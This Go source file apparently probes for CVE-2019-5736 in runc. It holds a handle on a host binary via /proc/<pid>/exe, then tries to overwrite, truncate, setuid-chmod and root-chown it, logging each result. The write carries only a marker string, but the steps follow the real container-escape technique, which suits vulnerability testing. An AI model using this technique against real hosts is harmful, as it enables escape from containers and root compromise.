package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// steal waits until a program that is not the container's own runs in the container, keeps its file, and writes dir/taken.
// When dir/go is there, it tries to change the file, and writes what came of that to dir/result (CVE-2019-5736).
func steal(dir string) error {
	fd := -1
	for fd < 0 {
		for _, pid := range others() {
			// Held still, it cannot end before it is looked at.
			_ = unix.Kill(pid, unix.SIGSTOP)
			got, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_RDONLY|unix.O_CLOEXEC, 0)
			if err == nil {
				fd = got
			}
			_ = unix.Kill(pid, unix.SIGCONT)
			if fd >= 0 {
				break
			}
		}
	}
	// No process of ours may run from it when it is to be written (ETXTBSY).
	for len(others()) > 0 {
		time.Sleep(time.Millisecond)
	}
	name := fmt.Sprintf("/proc/self/fd/%d", fd)
	link, _ := os.Readlink(name)
	if err := note(dir+"/taken", link+"\n"); err != nil {
		return err
	}
	await(dir + "/go")
	var result strings.Builder
	for _, flags := range []struct {
		name  string
		flags int
	}{{"O_WRONLY", unix.O_WRONLY}, {"O_RDWR", unix.O_RDWR}, {"O_WRONLY|O_TRUNC", unix.O_WRONLY | unix.O_TRUNC}} {
		w, err := unix.Open(name, flags.flags|unix.O_CLOEXEC, 0)
		for end := time.Now().Add(2 * time.Second); err == unix.ETXTBSY && time.Now().Before(end); {
			time.Sleep(5 * time.Millisecond)
			w, err = unix.Open(name, flags.flags|unix.O_CLOEXEC, 0)
		}
		if err == nil {
			_, err = unix.Pwrite(w, []byte("#!/attack"), 0)
		}
		fmt.Fprintf(&result, "write %s: %s\n", flags.name, outcome(err))
	}
	fmt.Fprintf(&result, "truncate: %s\n", outcome(unix.Truncate(name, 1)))
	fmt.Fprintf(&result, "chmod: %s\n", outcome(unix.Fchmodat(unix.AT_FDCWD, name, 0o6777, 0)))
	fmt.Fprintf(&result, "chown: %s\n", outcome(unix.Chown(name, 0, 0)))
	return note(dir+"/result", result.String())
}

// others are the processes of the pid namespace but this one.
func others() []int {
	entries, err := os.ReadDir("/proc")
	if err != nil {
		return nil
	}
	var pids []int
	for _, e := range entries {
		if pid, err := strconv.Atoi(e.Name()); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}
